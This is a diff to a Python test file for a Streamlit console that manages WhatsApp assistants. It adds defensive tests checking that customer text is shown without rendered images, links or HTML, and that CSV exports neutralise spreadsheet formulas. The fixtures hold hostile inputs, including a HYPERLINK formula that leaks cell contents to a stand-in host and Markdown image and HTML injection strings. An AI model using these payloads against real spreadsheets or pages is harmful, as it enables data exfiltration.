@@ -7,6 +7,8 @@ database); the console script runs in this process and reaches it over HTTP, as 
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import time
 from collections.abc import Callable, Iterator
 from pathlib import Path
@@ -15,8 +17,11 @@ from typing import Any
 import httpx
 import jwt
 import pytest
+from markdown_it import MarkdownIt
 from streamlit.testing.v1 import AppTest
 
+from console.api import Api
+from console.ui import thread_csv
 from tests.conftest import ADMIN, create_database, drop_database
 from tests.fakes.console_stack import SECRET_KEY, Process, admin_token, fake_ollama_in_thread, start_backend, wait_for
 
@@ -92,6 +97,38 @@ def texts(at: AppTest) -> str:
     return "\n".join(parts)
 
 
+MARKDOWN = MarkdownIt("commonmark")
+
+
+def rendered(markdown: str) -> tuple[str, set[str]]:
+    """What a Markdown renderer makes of `markdown`, as Streamlit's does in the browser: the text
+    the operator reads, and the kinds of element it builds (`image`, `link_open`, `html_inline`, ...)."""
+    words: list[str] = []
+    kinds: set[str] = set()
+
+    def walk(tokens) -> None:  # noqa: ANN001
+        for token in tokens:
+            kinds.add(token.type)
+            if token.type in ("text", "code_inline"):
+                words.append(token.content)
+            elif token.type in ("softbreak", "hardbreak"):
+                words.append("\n")
+            walk(token.children or [])
+
+    walk(MARKDOWN.parse(markdown))
+    return "".join(words), kinds
+
+
+def shown(at: AppTest) -> str:
+    """Like `texts`, but as the operator reads it: Markdown rendered, escapes gone."""
+    parts: list[str] = []
+    for kind in ("title", "markdown", "caption", "info", "success", "warning", "error", "subheader"):
+        parts += [rendered(str(element.value))[0] for element in getattr(at, kind)]
+    parts += [str(element.value) for element in at.text]
+    parts += [rendered(str(b.label))[0] for b in at.button]
+    return "\n".join(parts)
+
+
 def rerun_until(at: AppTest, condition: Callable[[AppTest], bool], *, timeout: float = 60, what: str) -> AppTest:
     """Rerun the page (as a live fragment would) until `condition` holds."""
 
@@ -146,11 +183,7 @@ def test_an_expired_session_goes_back_to_login_with_a_message(console):
     assert "Your session has expired. Please log in again." in [w.value for w in at.warning]
 
 
-def test_logging_out_returns_to_the_login_page(console):
-    at = console("overview")
-    at.sidebar.button[0].click().run()
-    assert [t.value for t in at.title] == ["WhatsApp assistants"]
-    assert "You are logged out." in [s.value for s in at.success]
+# Logging out ends the operator's every session, this module's admin token too: see test_console_accounts.py.
 
 
 # -- assistants ----------------------------------------------------------------------------
@@ -221,7 +254,7 @@ def test_the_playground_shows_the_answer_its_sources_and_timings(console, api):
     assert not at.exception
     chat = [m for m in at.chat_message]
     assert [m.name for m in chat] == ["user", "assistant"]
-    assert "We open at 9 am" in chat[1].markdown[0].value
+    assert "We open at 9 am" in chat[1].text[0].value
     assert {"Total", "Retrieval", "Generation"} <= {m.label for m in at.metric}
     sources = at.dataframe[0].value
     assert list(sources["document"]) == ["hours.txt"]
@@ -258,14 +291,15 @@ def test_uploaded_documents_are_indexed_and_shown_ready_then_searchable(console,
     at.run()
     next(b for b in at.button if b.label == "Upload 2 documents").click().run()
     assert not at.exception
-    assert {s.value for s in at.success} >= {"returns.md: uploaded, indexing now.", "delivery.txt: uploaded, indexing now."}
+    flashes = {rendered(s.value)[0] for s in at.success}
+    assert flashes >= {"returns.md: uploaded, indexing now.", "delivery.txt: uploaded, indexing now."}
     rerun_until(
         at,
         lambda page: sum(":green-badge[Ready]" in m.value for m in page.markdown) == 2,
         what="both documents shown as Ready",
     )
-    names = texts(at)
-    assert "**returns.md**" in names and "**delivery.txt**" in names
+    names = shown(at)
+    assert "returns.md" in names and "delivery.txt" in names
 
     search = next(f for f in at.form if f.key == "search")
     search.text_input[0].set_value("DLV-42")
@@ -273,7 +307,7 @@ def test_uploaded_documents_are_indexed_and_shown_ready_then_searchable(console,
     at.run()
     assert not at.exception
     found = [m.value for m in at.markdown if m.value.startswith("**#1")]
-    assert found and "delivery.txt" in found[0] and "score" in found[0]
+    assert found and "delivery.txt" in rendered(found[0])[0] and "score" in found[0]
 
 
 def test_a_document_is_deleted_only_after_confirmation(console, api):
@@ -285,7 +319,7 @@ def test_a_document_is_deleted_only_after_confirmation(console, api):
     next(b for b in at.button if b.label == "Yes, delete").click().run()
     assert not at.exception
     assert api.get(f"/api/assistants/{assistant['id']}/documents").json()["items"] == []
-    assert any("Deleted old.txt" in s.value for s in at.success)
+    assert any("Deleted old.txt" in rendered(s.value)[0] for s in at.success)
 
 
 # -- WhatsApp ------------------------------------------------------------------------------
@@ -359,12 +393,12 @@ def test_a_customer_message_from_the_sandbox_chat_gets_a_reply_shown_in_conversa
     assert not at.exception
     # No documents yet: the assistant answered with its fallback message, the last message shown.
     contact_button = next(b for b in at.button if "15557770001" in b.label)
-    assert "Sorry, I don't know that yet." in contact_button.label
+    assert "Sorry, I don't know that yet." in rendered(contact_button.label)[0]
     contact_button.click().run()
     bubbles = at.chat_message
     assert [b.name for b in bubbles] == ["user", "assistant"]
-    assert bubbles[0].markdown[0].value == "Hello, are you open today?"
-    assert bubbles[1].markdown[0].value.startswith("Sorry, I don't know that yet.")
+    assert bubbles[0].text[0].value == "Hello, are you open today?"
+    assert bubbles[1].text[0].value.startswith("Sorry, I don't know that yet.")
     assert "Assistant" in bubbles[1].caption[0].value
 
 
@@ -421,7 +455,7 @@ def test_pausing_the_bot_and_replying_by_hand(console, api):
     assert not at.exception
     assert any(s.value.startswith("Reply") for s in at.success)
     bubbles = at.chat_message
-    assert bubbles[-1].markdown[0].value == "Hi, this is Sam from the shop: your refund is on its way."
+    assert bubbles[-1].text[0].value == "Hi, this is Sam from the shop: your refund is on its way."
     assert "Operator" in bubbles[-1].caption[0].value
     outbox = api.get(f"/api/channels/{channel['id']}/sandbox/outbox").json()["items"]
     assert "Hi, this is Sam from the shop: your refund is on its way." in [m["text"] for m in outbox]
@@ -451,7 +485,7 @@ def test_a_knowledge_gap_is_filled_with_an_faq_answer(console, api):
     channel = ready_channel(api, assistant["id"], "+15550005555")
     api.post(f"/api/channels/{channel['id']}/sandbox/messages", json={"from": "+15557770003", "text": "Do you sell gift cards?"})
     at = select_assistant(console("gaps"), assistant)
-    rerun_until(at, lambda page: "“Do you sell gift cards?”" in texts(page), what="the unanswered question as a gap")
+    rerun_until(at, lambda page: "“Do you sell gift cards?”" in shown(page), what="the unanswered question as a gap")
     faq = next(f for f in at.form if f.key == "faq-0")
     faq.text_area[0].set_value("Yes, gift cards from 10 to 100 euros, at the till.")
     faq.button[0].click()
@@ -498,6 +532,53 @@ def test_every_page_explains_what_to_do_when_there_is_nothing_yet(console, api, 
 
 
 # -- the client --------------------------------------------------------------------------------
+
+
+def test_what_customers_write_is_shown_as_typed_never_as_images_links_or_html(console, api):
+    assistant = new_assistant(api, "Untrusted text", model="llama3.2")
+    channel = ready_channel(api, assistant["id"], "+15550006666")
+    text = 'Look ![x](http://example.com/a.png) <img src="http://example.com/b.png"> [win](http://example.com/c)'
+    name = "![me](http://example.com/n.png)"
+    sent = api.post(f"/api/channels/{channel['id']}/sandbox/messages", json={"from": "+15557770010", "text": text, "name": name})
+    assert sent.status_code == 200, sent.text
+
+    def nothing_fetched_or_linked(at: AppTest) -> None:
+        values = [m.value for m in at.markdown] + [h.value for h in at.subheader] + [b.label for b in at.button]
+        values += [c.value for c in at.caption] + [e.value for e in at.success] + [e.value for e in at.error]
+        for value in (str(v) for v in values if "example.com" in str(v)):
+            kinds = rendered(value)[1]
+            assert not kinds & {"image", "link_open", "html_inline", "html_block"}, value
+
+    at = console("conversations")
+    at.selectbox(key="conversations_assistant").select(assistant["id"]).run()
+    wait_for(lambda: any("15557770010" in b.label for b in at.run().button), timeout=30, what="the contact")
+    next(b for b in at.button if "15557770010" in b.label).click().run()
+    assert not at.exception
+    nothing_fetched_or_linked(at)
+    assert at.chat_message[0].text[0].value == text  # the message as the customer wrote it
+    assert f"{name} (+15557770010)" in shown(at)  # the name too, in the list and the heading
+
+    at.switch_page("views/gaps.py").run()
+    at = select_assistant(at, assistant)
+    rerun_until(at, lambda page: "example.com/a.png" in shown(page), what="the message as a knowledge gap")
+    nothing_fetched_or_linked(at)
+
+
+def test_the_csv_export_keeps_what_customers_wrote_from_running_as_formulas(stack, api):
+    assistant = new_assistant(api, "Spreadsheet", policies={"burst_window_seconds": 0})
+    channel = ready_channel(api, assistant["id"], "+15550007777")
+    written = ['=HYPERLINK("http://example.com/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "plain words"]
+    for n, text in enumerate(written):
+        sent = api.post(
+            f"/api/channels/{channel['id']}/sandbox/messages", json={"from": "+15557770011", "text": text, "id": f"csv-{n}"}
+        )
+        assert sent.status_code == 200, sent.text
+    contact = api.get("/api/contacts", params={"assistant_id": assistant["id"]}).json()["items"][0]
+    thread = Api(stack.url, api.headers["Authorization"].removeprefix("Bearer ")).thread(contact["id"])
+    rows = list(csv.reader(io.StringIO(thread_csv(thread).decode("utf-8"))))
+    cells = {row[5] for row in rows[1:] if row[1] == "in"}
+    assert cells == {"'" + written[0], "'+1+1", "'-2+3", "'@SUM(A1:A2)", "plain words"}
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
 
 
 def test_the_client_turns_backend_errors_into_plain_messages(stack, api):
